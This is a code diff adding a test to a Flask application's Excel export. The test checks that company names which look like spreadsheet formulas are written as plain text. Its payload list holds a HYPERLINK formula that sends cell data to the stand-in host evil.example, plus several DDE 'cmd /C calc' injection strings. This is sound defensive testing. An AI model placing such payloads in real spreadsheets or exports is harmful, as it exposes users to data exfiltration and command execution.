@@ -71,3 +71,37 @@ def test_export_refuses_bad_filter_values_with_the_error_shape(client: FlaskClie
     response = client.get("/api/v1/exports/enterprises.xlsx?pool=moon_base")
     assert response.status_code == 422
     assert "pool" in response.json["error"]["fields"]
+
+
+FORMULA_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
+
+
+def test_export_writes_formula_like_names_as_text_and_numbers_as_numbers(
+    client: FlaskClient,
+) -> None:
+    token = uuid.uuid4().hex[:8]
+    codes = [new_uscc() for _ in FORMULA_NAMES]
+    rows = [{**GOOD, "uscc": code, "name": f"{name}{token}", "year": "2025",
+             "net_profit": "-4000000"}
+            for code, name in zip(codes, FORMULA_NAMES, strict=True)]
+    assert _import(client, rows)["status"] == "succeeded"
+
+    exported = client.get(f"/api/v1/exports/enterprises.xlsx?q={token}")
+    assert exported.headers["X-Total-Count"] == str(len(FORMULA_NAMES))
+    book = load_workbook(io.BytesIO(exported.data))  # not read-only: cell types are visible
+    names = [row[1] for row in book[LIST_TITLE].iter_rows(min_row=2)]
+    assert sorted(c.value for c in names) == sorted(f"{n}{token}" for n in FORMULA_NAMES)
+    assert {c.data_type for c in names} == {"s"}
+    name_at = [c.header for c in COLUMNS].index("企业名称 / Name")
+    profit_at = [c.key for c in COLUMNS].index("net_profit")
+    for row in book[SHEET_TITLE].iter_rows(min_row=2):
+        assert row[name_at].data_type == "s" and row[name_at].value.endswith(token)
+        assert (row[profit_at].value, row[profit_at].data_type) == (-4000000, "n")
+
+    again = _upload(client, exported.data, "export.xlsx")
+    assert (again["status"], again["created"], again["updated"]) == ("succeeded", 0, 0), again
